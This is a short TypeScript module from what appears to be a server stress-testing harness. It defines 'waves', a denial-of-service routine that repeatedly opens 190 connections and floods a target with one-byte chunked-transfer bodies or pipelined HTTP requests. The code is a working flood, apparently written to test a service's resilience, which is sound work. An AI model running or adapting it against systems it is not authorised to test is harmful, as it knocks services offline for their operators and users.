import type { Socket } from 'node:net';
import type { Attack } from '../attack.ts';
import { every, headOf, open } from '../wire.ts';

const chunks = Buffer.from(
  `${headOf('/v2/soap11', 'Transfer-Encoding: chunked\r\n')}${'1\r\n \r\n'.repeat(11_000)}`,
);
const requests = Buffer.from(headOf('/v2/nothing', '', 'GET').repeat(1_500));

export const waves: Attack = {
  name: 'waves',
  says: '190 connections that each send 64 KiB of chunks of one byte, or of requests in a row, in the same moment, every two seconds',
  run: async (target) => {
    let ready: Socket[] = [];
    await every(1_000, target, (round) => {
      if (round % 2 === 0) {
        ready = Array.from({ length: 190 }, () => open(target).resume());
        return;
      }
      for (const [index, socket] of ready.entries()) socket.write(index % 2 === 0 ? chunks : requests);
      const sent = ready;
      setTimeout(() => {
        for (const socket of sent) socket.destroy();
      }, 900);
    });
    return [];
  },
};
